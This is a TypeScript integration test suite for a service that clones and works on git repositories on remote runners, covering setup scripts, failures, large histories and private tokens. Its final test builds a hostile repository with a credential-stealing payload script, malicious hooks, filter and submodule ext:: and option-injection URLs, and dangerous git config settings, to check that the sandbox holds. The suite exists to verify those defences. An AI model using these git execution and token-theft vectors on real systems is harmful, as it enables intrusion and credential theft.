// A repository on a runner: cloned, set up and committed to by the machine's own git and bash, and kept with the conversation.

import { type ChildProcess, spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { chmodSync, existsSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { ROOT } from '../../scripts/start/paths.ts'
import { type Service, startService } from '../../scripts/start/service.ts'
import { holdingGate } from '../support/git-gate.ts'
import { type GitServer, startGitServer } from '../support/git-server.ts'
import { needPrograms } from '../support/programs.ts'
import { GOOD_TOKENS } from '../support/provider-host-types.ts'

type Event = {
  id: number
  source: string
  action?: string
  observation?: string
  content: string
  args?: { thought?: string }
  extras: { agent_state?: string; reason?: string; hidden?: boolean; metadata?: { suffix: string; exit_code: number } }
}

let service: Service
let host: GitServer
const folder = mkdtempSync(join(tmpdir(), 'bellwether-lent-repository-'))
const runners = new Set<ChildProcess>()

beforeAll(async () => {
  host = await startGitServer()
  service = await startService({ stateDir: join(folder, 'state'), env: { MARKET_DATA: 'sample' } })
})

afterAll(async () => {
  for (const runner of runners) runner.kill('SIGKILL')
  await service?.stop()
  await host?.stop()
  rmSync(folder, { recursive: true, force: true })
})

/** Without a sandbox, because the git host is on this machine's loopback. Resolves when it is connected. */
async function lend(name: string, ...more: string[]): Promise<ChildProcess> {
  const key = join(folder, 'state', 'runner-token')
  const place = ['--workspaces', join(folder, name), '--name', name, '--isolation', 'none']
  const options = ['--url', service.url, '--key-file', key, ...place, ...more]
  const runner = spawn(process.execPath, [join(ROOT, 'runner/src/main.ts'), ...options], {
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' },
    stdio: ['ignore', 'ignore', 'pipe'],
  })
  runners.add(runner)
  let log = ''
  await new Promise<void>((resolve, reject) => {
    runner.once('exit', () => reject(new Error(`the runner ended: ${log}`)))
    runner.stderr?.on('data', (text) => {
      log = `${log}${text}`.slice(-10_000)
      if (log.includes('pool.connected')) resolve()
    })
  })
  onTestFinished(async () => {
    await end(runner)
    // The next test is not to meet it.
    await expect.poll(async () => (await connected()).includes(name)).toBe(false)
  })
  return runner
}

async function end(runner: ChildProcess): Promise<void> {
  if (runner.exitCode !== null || runner.signalCode !== null) return
  const gone = new Promise((resolve) => runner.once('exit', resolve))
  runner.kill('SIGKILL')
  await gone
}

async function call<T>(path: string, method = 'GET', body?: unknown): Promise<T> {
  const headers = { 'content-type': 'application/json' }
  const init = { method, headers, ...(body === undefined ? {} : { body: JSON.stringify(body) }) }
  return (await (await fetch(`${service.url}${path}`, init)).json()) as T
}

async function connected(): Promise<string[]> {
  const { runners: list } = await call<{ runners: { name: string; state: string }[] }>('/api/runners')
  return list.filter(({ state }) => state === 'connected').map(({ name }) => name)
}

const events = async (path: string) => (await call<{ events: Event[] }>(`${path}/events?limit=100`)).events

async function order(cwd: string, git: string[][], files: { path: string; base64: string }[] = []): Promise<void> {
  const response = await fetch(`${host.url}/order`, { method: 'POST', body: JSON.stringify({ cwd, git, files }) })
  const reports = (await response.json()) as { exitCode: number; stderr: string }[]
  for (const { exitCode, stderr } of reports) if (exitCode !== 0) throw new Error(stderr)
}

/** A bare repository with one commit of these files. */
async function hosted(name: string, files: Record<string, string>): Promise<string> {
  const work = `work-${name.replace('/', '-')}`
  const written = Object.entries(files).map(([path, text]) => ({ path: `${work}/${path}`, base64: btoa(text) }))
  await order(work, [['init', '-q', '-b', 'main']], written)
  await order(work, [
    ['add', '-Af'],
    ['commit', '-qm', 'first'],
    ['clone', '-q', '--bare', '.', `../${name}.git`],
  ])
  return `${host.url}/git/${name}.git`
}

async function begun(repository: string, body: object = {}, query = ''): Promise<string> {
  const made = await call<{ conversation_id: string }>(`/api/conversations${query}`, 'POST', { repository, ...body })
  return `/api/conversations/${made.conversation_id}`
}

const state = async (path: string) => (await events(path)).findLast(({ extras }) => extras?.agent_state)?.extras

async function ready(path: string): Promise<string> {
  await expect.poll(async () => (await state(path))?.agent_state).toMatch(/awaiting_user_input|error/)
  const { agent_state, reason } = (await state(path)) ?? {}
  expect([agent_state, reason]).toEqual(['awaiting_user_input', ''])
  return path
}

async function run(path: string, content: string): Promise<Event> {
  const outcomes = async () =>
    (await events(path)).filter(
      ({ observation, cause }: Event & { cause?: number }) =>
        observation && cause !== undefined && observation !== 'recall',
    )
  const before = (await outcomes()).length
  await call(`${path}/events`, 'POST', { action: 'message', args: { content } })
  await expect.poll(async () => (await outcomes()).length).toBe(before + 1)
  return (await outcomes()).at(-1) as Event
}

const told = async (path: string) =>
  (await events(path))
    .filter(({ action, source }) => action === 'think' && source === 'environment')
    .map(({ args }) => String(args?.thought))

test('a repository is cloned, set up and committed to on the runner, and its changes and diffs are the conversation’s', async () => {
  await lend('one')
  const url = await hosted('shop', {
    'a.txt': 'one\n',
    '.gitignore': 'build/\n*.log\n',
    'target/kept.txt': 'tracked\n',
    'big.log': 'tracked although ignored\n'.repeat(60_000),
    '.bellwether/setup.sh': 'echo ready; export TEAM=blue; say() { echo "said $1"; }; echo $$ > ../setup.log\n',
    '.bellwether/pre-commit.sh': 'if grep -q secret a.txt; then echo "no secrets"; exit 1; fi\n',
  })
  const path = await ready(await begun(url))
  expect(await told(path)).toEqual([expect.stringContaining('runner one (linux')])
  const [script] = (await events(path)).filter(({ action }) => action === 'run')
  expect(script).toMatchObject({
    source: 'environment',
    args: { command: 'source .bellwether/setup.sh', hidden: true },
  })
  expect((await events(path)).find(({ extras }) => extras?.hidden)).toMatchObject({ content: 'ready' })
  expect(await call<string[]>(`${path}/list-files`)).toEqual(['shop/', 'setup.log'])
  expect(await call(`${path}/select-file?file=shop/target/kept.txt`)).toEqual({ code: 'tracked\n' })
  // The session of the script is that of the commands, and the branch is a new one.
  const first = await run(
    path,
    'say $TEAM; basename "$PWD"; [ $$ = "$(cat ../setup.log)" ] && git branch --show-current; git config user.name',
  )
  expect(first.content).toMatch(/^said blue\nshop\nbellwether-[a-z0-9]{8}\nbellwether$/)
  expect((await run(path, 'echo secret >> a.txt; git commit -qam bad; echo "exit $?"')).content).toBe(
    'no secrets\nexit 1',
  )
  expect(
    (await run(path, 'echo two >> a.txt; sed -i /secret/d a.txt; git commit -qam good; echo "exit $?"')).content,
  ).toBe('exit 0')
  expect(await call(`${path}/git/changes`)).toEqual([{ status: 'M', path: 'shop/a.txt' }])
  expect(await call(`${path}/git/diff?path=shop/a.txt`)).toEqual({ original: 'one', modified: 'one\ntwo' })
  // What git ignores stays beyond a size, and is named; what is small comes.
  const built = await run(
    path,
    'mkdir -p build small && head -c 3000000 /dev/zero > build/out.bin && echo x > note.log; head -c 3000000 /dev/zero > plain.bin',
  )
  expect(built.content).toContain('build is ignored by git and larger than 1 MiB: it stays on the runner.')
  expect(await call(`${path}/select-file?file=shop/note.log`)).toEqual({ code: 'x\n' })
  expect(await call(`${path}/select-file?file=shop/big.log`)).toMatchObject({
    code: expect.stringContaining('tracked'),
  })
  expect(await call<string[]>(`${path}/list-files?path=shop`)).toContain('shop/plain.bin')
  expect((await fetch(`${service.url}${path}/select-file?file=shop/build/out.bin`)).status).not.toBe(200)
  expect((await run(path, 'wc -c < build/out.bin')).content).toBe('3000000')
  // Another runner is told what is missing.
  for (const runner of runners) await end(runner)
  await lend('two')
  expect((await run(path, 'ls build; git log --oneline | wc -l')).content).toMatch(/No such file[\s\S]*\n2$/)
  expect((await told(path)).at(-1)).toMatch(/runner two .*stayed on the runner before: shop\/build/)
})

test('what cannot be cloned leaves an error state that says why, as at the edge', async () => {
  await lend('three')
  const reason = async (path: string) => {
    await expect.poll(async () => (await state(path))?.agent_state).toBe('error')
    return (await state(path))?.reason
  }
  const url = await hosted('plain', { 'a.txt': 'one\n' })
  expect(await reason(await begun(url, { selected_branch: 'nowhere' }))).toContain('Remote branch nowhere not found')
  expect(await reason(await begun(await hosted('private/vault', { 'a.txt': 'one\n' })))).toContain(
    'could not read Username',
  )
  expect(await reason(await begun('http://127.0.0.1:9/a/b.git'))).toContain('127.0.0.1 port 9')
  await order('empty.git', [['init', '-q', '--bare', '-b', 'main']])
  const empty = await ready(await begun(`${host.url}/git/empty.git`))
  expect((await run(empty, 'git status --short; ls -A; git remote')).content).toBe('.git\norigin')
})

test('thousands of files and a history beyond the limit: the last commit comes whole, packs fit into the workspace, and progress is told', async () => {
  await lend('large')
  const random = () => ({ path: 'work-large/big.bin', base64: randomBytes(15_000_000).toString('base64') })
  const small = Array.from({ length: 2_000 }, (_, i) => ({
    path: `work-large/d${i % 40}/f${i}.txt`,
    base64: btoa(`file ${i}\n`),
  }))
  await order('work-large', [['init', '-q', '-b', 'main']], [random(), ...small])
  await order('work-large', [
    ['add', '-A'],
    ['commit', '-qm', 'first'],
  ])
  await order('work-large', [['commit', '-qam', 'second']], [random()])
  await order('work-large', [['clone', '-q', '--bare', '.', '../large.git']])
  const path = await begun(`${host.url}/git/large.git`)
  const socket = new WebSocket(`${service.url.replace('http', 'ws')}${path}/ws`)
  const frames: string[] = []
  socket.addEventListener('message', ({ data }) => frames.push(String(data)))
  onTestFinished(() => socket.close())
  await ready(path)
  await expect.poll(() => frames.join()).toContain('"STATUS$READY"')
  expect(frames.join()).toMatch(/SETTING_UP_WORKSPACE[^}]*(Receiving objects|whole history)/)
  const said = await run(
    path,
    'git log --oneline | wc -l; git ls-files | wc -l; git status --short; git fsck 2>&1 | grep -c error; find .git -size +25M',
  )
  expect(said.content).toBe('1\n2001\n0')
  expect(await call(`${path}/select-file?file=large/d7/f1967.txt`)).toEqual({ code: 'file 1967\n' })
  await run(path, 'echo changed > d7/f1967.txt')
  expect(await call(`${path}/git/changes`)).toEqual([{ status: 'M', path: 'large/d7/f1967.txt' }])
  expect(await call(`${path}/git/diff?path=large/d7/f1967.txt`)).toEqual({ original: 'file 1967', modified: 'changed' })
})

test('a runner that dies in a clone costs the clone alone: another one begins it anew, and no half of it is seen', async () => {
  const gate = await holdingGate(host.url)
  onTestFinished(() => gate.close())
  const url = await hosted('held', { 'a.txt': 'one\n' })
  const first = await lend('four')
  const path = await begun(url.replace(host.url, gate.url), { selected_branch: 'main' }, '?runtime=runner')
  await gate.isHeld
  expect(await call(path)).toMatchObject({ status: 'STARTING', runtime_status: 'STATUS$STARTING_RUNTIME' })
  await end(first)
  gate.letGo()
  await lend('five')
  await ready(path)
  expect((await run(path, 'git status --short | wc -l; cat a.txt; ls -A ..')).content).toBe('0\none\nheld')
  expect(await told(path)).toEqual([expect.stringContaining('runner four'), expect.stringContaining('runner five')])
})

// It stores a token for everybody, so it is the last.
test('a private repository is cloned and pushed to with the stored token, which stands in no file', async () => {
  const gate = await holdingGate(host.url)
  onTestFinished(() => gate.close())
  gate.letGo()
  await hosted('private/safe', { 'a.txt': 'one\n' })
  await order('private/safe.git', [['config', 'http.receivepack', 'true']])
  const tokens = { provider_tokens: { github: { token: GOOD_TOKENS.github, host: gate.url } } }
  expect(await call('/api/add-git-providers', 'POST', tokens)).toMatchObject({ message: expect.any(String) })
  await lend('six')
  const path = await ready(await begun('private/safe', { git_provider: 'github', selected_branch: 'main' }))
  const said = await run(
    path,
    'echo two >> a.txt; git commit -qam second && git push -q && git fetch && echo pushed; grep -rl ghp_ .; cat .git/config',
  )
  expect(said.content).toContain(`pushed\n[core]`)
  expect(said.content).toContain(`${gate.url}/private/safe.git`)
  expect(said.content).not.toContain(GOOD_TOKENS.github)
})

const HOSTILE_SETTINGS = {
  'core.hooksPath': 'hooks',
  'core.fsmonitor': './payload.sh',
  'core.sshCommand': './payload.sh',
  'core.pager': './payload.sh',
  'core.editor': './payload.sh',
  'core.gitProxy': './payload.sh',
  'filter.evil.clean': './payload.sh',
  'filter.evil.smudge': './payload.sh',
  'filter.evil.process': './payload.sh',
  'diff.evil.command': './payload.sh',
  'diff.evil.textconv': './payload.sh',
  'merge.evil.driver': './payload.sh',
  'diff.external': './payload.sh',
  'protocol.ext.allow': 'always',
  'protocol.file.allow': 'always',
  'credential.helper': '!./payload.sh',
  'submodule.ext.update': '!./payload.sh',
  'gpg.program': './payload.sh',
  'commit.gpgSign': 'true',
}

// With the token that the test before it stored.
test('a hostile repository, cloned and used on a runner and looked at by the service, runs nothing outside the sandbox and gets no token to another host', async ({
  skip,
}) => {
  needPrograms(skip, 'bwrap', 'socat')
  const outside = mkdtempSync(join(tmpdir(), 'bellwether-outside-'))
  chmodSync(outside, 0o777)
  // A runner that root starts becomes somebody else.
  chmodSync(folder, 0o711)
  // The loopback of the sandbox is its own, but for this address, which goes to the runner's proxy.
  const address = '127.0.0.2'
  const gate = await holdingGate(host.url, address)
  gate.letGo()
  const strangers: (string | undefined)[] = []
  const stranger = createServer((incoming, response) => {
    strangers.push(incoming.headers.authorization)
    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end()
  }).listen(0, address)
  await new Promise((resolve) => stranger.once('listening', resolve))
  onTestFinished(() => {
    gate.close()
    stranger.closeAllConnections()
    stranger.close()
    rmSync(outside, { recursive: true, force: true })
  })
  const evil = `http://${address}:${(stranger.address() as AddressInfo).port}`
  const payload = `#!/bin/sh
echo "$(hostname) $(id -u)" >> /workspace/ran
touch ${outside}/ran
for file in ${folder}/state/runner-token ${folder}/hostile/*/journal/calls.jsonl ~root/.bashrc; do cat "$file" > /dev/null 2>&1 && echo "read $file" >> /workspace/ran; done
printf 'protocol=http\\nhost=${new URL(evil).host}\\n\\n' | GIT_TERMINAL_PROMPT=0 git -C / credential fill 2>/dev/null | grep password >> /workspace/ran
exit 0
`
  await hosted('private/trap', {
    'payload.sh': payload,
    ...Object.fromEntries(
      ['post-checkout', 'pre-commit', 'post-merge', 'reference-transaction', 'post-index-change'].map((hook) => [
        `hooks/${hook}`,
        payload,
      ]),
    ),
    '.gitattributes': '* filter=evil diff=evil merge=evil\n',
    '.gitmodules': `[submodule "ext"]\n\tpath = ext\n\turl = ext::sh -c ./payload.sh% %S\n[submodule "option"]\n\tpath = option\n\turl = -u./payload.sh\n[submodule "host"]\n\tpath = host\n\turl = ${evil}/a/b.git\n`,
    'a.txt': 'one\n',
  })
  await order('private/trap.git', [['config', 'http.receivepack', 'true']])
  const tokens = { provider_tokens: { github: { token: GOOD_TOKENS.github, host: gate.url } } }
  await call('/api/add-git-providers', 'POST', tokens)
  await lend(
    'hostile',
    '--isolation',
    'bwrap',
    '--network',
    'list',
    '--allow',
    `${new URL(gate.url).host},${new URL(evil).host}`,
  )
  const path = await ready(
    await begun('private/trap', { git_provider: 'github', selected_branch: 'main' }, '?runtime=runner'),
  )
  expect((await run(path, 'cat /workspace/ran; git status --short; cat a.txt')).content).toMatch(
    /No such file[^\n]*\none$/,
  )
  const settings = Object.entries(HOSTILE_SETTINGS).map(([name, value]) => `git config ${name} '${value}'`)
  const used = await run(
    path,
    `${settings.join('\n')}
export GIT_TERMINAL_PROMPT=0
chmod +x payload.sh hooks/*
git status; git diff; git add -A; git commit -qm 1; git checkout -q -b other; git stash; git submodule add -f ${evil}/c/d.git sub; git submodule update --init
git clone -q 'ext::sh -c ./payload.sh% %S' x; git clone -q ssh://nobody@${new URL(evil).host}/x y
git config url.${evil}/.insteadOf ${gate.url}/; git fetch; git config --unset url.${evil}/.insteadOf
sort /workspace/ran | uniq -c | sed 's/^ *[0-9]* //' > /workspace/lines; echo; cat /workspace/lines`,
  )
  // It ran, in the sandbox alone, and was given nothing.
  expect(String(used.content)).toMatch(/\nsandbox 1000$/)
  expect((await call<{ code: string }>(`${path}/select-file?file=lines`)).code).toBe('sandbox 1000\n')
  expect(existsSync(join(outside, 'ran'))).toBe(false)
  expect(strangers.length).toBeGreaterThan(1)
  expect(strangers.filter((authorization) => authorization !== undefined)).toEqual([])
  // The service's own looks, with `.git` reached through a link as well, and the runner's question of what is ignored.
  const before = (await call<{ code: string }>(`${path}/select-file?file=ran`)).code
  await call(`${path}/git/changes`)
  await call(`${path}/git/diff?path=trap/a.txt`)
  await run(path, 'cp /workspace/ran /tmp/before; head -c 3000000 /dev/zero > big.log; echo "*.log" > .gitignore')
  expect((await call<{ code: string }>(`${path}/select-file?file=ran`)).code).toBe(before)
  await run(path, 'mv .git ../elsewhere; ln -s ../elsewhere .git; ln -s / root; ln -s /etc/passwd accounts')
  for (const query of [
    'git/changes',
    'git/diff?path=trap/a.txt',
    'git/diff?path=trap/accounts',
    'select-file?file=trap/accounts',
    'zip-directory',
  ])
    expect(await (await fetch(`${service.url}${path}/${query}`)).text()).not.toContain('root:x:0')
  expect(existsSync(join(outside, 'ran'))).toBe(false)
  expect(JSON.stringify(await events(path))).not.toContain(GOOD_TOKENS.github)
})
